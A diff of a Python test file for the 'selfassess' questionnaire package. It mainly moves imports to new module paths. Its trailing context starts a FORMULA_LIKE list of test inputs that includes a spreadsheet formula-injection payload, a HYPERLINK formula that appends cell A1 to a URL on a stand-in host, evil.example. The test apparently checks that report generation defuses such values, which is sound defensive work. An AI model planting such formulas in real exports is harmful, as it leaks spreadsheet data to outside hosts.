@@ -18,15 +18,15 @@ import pytest
 from lxml import etree
 from openpyxl import load_workbook
 
-from selfassess.questionnaire import load_questionnaire
+from selfassess.definitions.questionnaire import load_questionnaire
 from selfassess.reports import write_country_report
-from selfassess.response import ParseResult
+from selfassess.reports.aggregate_xlsx import write_report_xlsx
+from selfassess.response.interpret import ParseResult
 from selfassess.scoring import response_with, score
 from selfassess.secretariat.aggregate import aggregate
 from selfassess.secretariat.ingest import ingest_paths
 from selfassess.secretariat.parties import load_parties
-from selfassess.secretariat.report_xlsx import write_report_xlsx
-from selfassess.secretariat.store import Store
+from selfassess.store import Store
 
 FORMULA_LIKE = (
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
